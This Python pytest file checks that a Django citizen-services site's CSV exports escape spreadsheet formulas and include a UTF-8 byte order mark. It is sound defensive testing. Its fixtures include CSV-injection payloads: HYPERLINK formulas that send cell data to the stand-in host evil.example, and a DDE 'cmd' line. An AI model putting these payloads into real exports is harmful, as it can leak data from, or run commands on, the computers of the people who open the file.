"""CSV exports of the registers: citizens' input never becomes a spreadsheet formula, and
Excel reads the Chinese (UTF-8 with a byte order mark)."""

import csv
import io

import pytest
from django.urls import reverse

from citizen_services import services
from citizen_services.models import Rating
from disclosure_pages.models import NewsPage
from tests.citizen_helpers import application_data
from tests.factories import add_item
from unit_sites.models import UnitPage

pytestmark = pytest.mark.django_db

RATINGS = "citizen_services_rating_modeladmin_index"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "  =1+1",
    "\t=1+1",
]


def csv_rows(response):
    data = b"".join(response.streaming_content)
    assert data.startswith("\ufeff".encode()), data[:20]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_ratings_csv_neutralises_formulas_and_has_a_bom(client_for):
    page = add_item(NewsPage, "fgw", title="导出测试")
    for comment in HOSTILE:
        Rating.objects.create(page=page, unit=page.unit, useful=False, comment=comment)
    Rating.objects.create(page=page, unit=page.unit, useful=True, comment="很有用，谢谢")
    response = client_for("admin").get(reverse(RATINGS), {"export": "csv"})
    assert response.status_code == 200
    rows = csv_rows(response)
    comments = [row[-1] for row in rows[1:]]
    for comment in HOSTILE:
        assert "'" + comment in comments, comment
    assert "很有用，谢谢" in comments
    formula_like = ("=", "+", "-", "@", "\t")
    assert not any(cell.lstrip(" ").startswith(formula_like) for row in rows[1:] for cell in row)


def test_the_requests_csv_neutralises_citizen_input(client_for):
    jyj_request = services.submit_application(
        UnitPage.objects.get(slug="luobei-jyj"),
        {
            **application_data(),
            "name": "@张三",
            "description": '=HYPERLINK("http://evil.example","申请")',
        },
    )
    response = client_for("admin").get(
        reverse("citizen_services_informationrequest_modeladmin_index"), {"export": "csv"}
    )
    rows = csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + jyj_request.description in cells
    assert "'@张三" in cells
